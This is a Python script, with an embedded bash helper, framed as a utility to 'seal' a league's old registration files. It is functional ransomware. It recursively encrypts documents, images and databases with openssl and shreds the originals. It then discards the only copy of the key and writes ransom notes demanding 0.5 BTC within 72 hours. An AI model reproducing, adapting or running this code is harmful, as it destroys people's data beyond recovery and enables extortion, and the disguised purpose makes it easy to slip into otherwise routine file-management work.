#!/usr/bin/env python3
"""'Seals' last season's registration files.

Walks the league's shared registration folder, encrypts every document
with a freshly generated key through an openssl shell script, destroys
the originals and leaves a note saying how to get the key back.
"""

import argparse
import logging
import os
import secrets
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("sealer")

TARGET_EXT = {".csv", ".xlsx", ".pdf", ".docx", ".jpg", ".png", ".json", ".db"}
NOTE_NAME = "READ_ME_TO_RESTORE.txt"
NOTE_TEXT = """All registration files in this folder have been encrypted.
To receive the key, send 0.5 BTC and your folder ID {folder_id}
to recover@example.com. Files will be unrecoverable after 72 hours.
"""

SEAL_SCRIPT = r"""#!/bin/bash
# reads one path per line on stdin, encrypts it, destroys the original
set -u
while IFS= read -r f; do
  if openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:SEAL_KEY \
        -in "$f" -out "$f.sealed" 2>/dev/null; then
    shred -u -n 1 "$f" 2>/dev/null || rm -f "$f"
    echo "ok $f"
  else
    echo "fail $f"
  fi
done
"""


class Sealer:
    def __init__(self, root, dry_run=False):
        self.root = Path(root).expanduser()
        self.dry_run = dry_run
        self.key = secrets.token_urlsafe(48)
        self.folder_id = secrets.token_hex(6)

    def targets(self):
        for dirpath, _dirs, files in os.walk(self.root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in TARGET_EXT and not name.endswith(".sealed"):
                    yield p

    def write_script(self):
        fd, path = tempfile.mkstemp(prefix="seal-", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(SEAL_SCRIPT)
        os.chmod(path, 0o700)
        return path

    def seal(self):
        files = list(self.targets())
        LOG.info("%d files found under %s", len(files), self.root)
        if self.dry_run or not files:
            for f in files:
                LOG.info("would seal %s", f)
            return 0, 0

        script = self.write_script()
        env = dict(os.environ, SEAL_KEY=self.key)
        try:
            proc = subprocess.run(["bash", script],
                                  input="\n".join(str(f) for f in files) + "\n",
                                  capture_output=True, text=True, env=env)
        finally:
            os.unlink(script)

        ok = fail = 0
        for line in proc.stdout.splitlines():
            status, _, path = line.partition(" ")
            if status == "ok":
                ok += 1
            else:
                fail += 1
                LOG.warning("could not seal %s", path)
        self.drop_notes()
        # the key only ever lived in memory; forget it
        self.key = None
        return ok, fail

    def drop_notes(self):
        for dirpath, _dirs, _files in os.walk(self.root):
            note = Path(dirpath) / NOTE_NAME
            try:
                note.write_text(NOTE_TEXT.format(folder_id=self.folder_id))
            except OSError as exc:
                LOG.debug("note not written in %s: %s", dirpath, exc)


def main(argv=None):
    ap = argparse.ArgumentParser(description="Seal last season's registrations")
    ap.add_argument("root", nargs="?", default="~/league/registrations")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    sealer = Sealer(args.root, dry_run=args.dry_run)
    if not sealer.root.is_dir():
        LOG.error("%s is not a directory", sealer.root)
        return 1
    ok, fail = sealer.seal()
    LOG.info("sealed %d files, %d failures, folder id %s", ok, fail,
             sealer.folder_id)
    return 0 if fail == 0 else 4


if __name__ == "__main__":
    sys.exit(main())
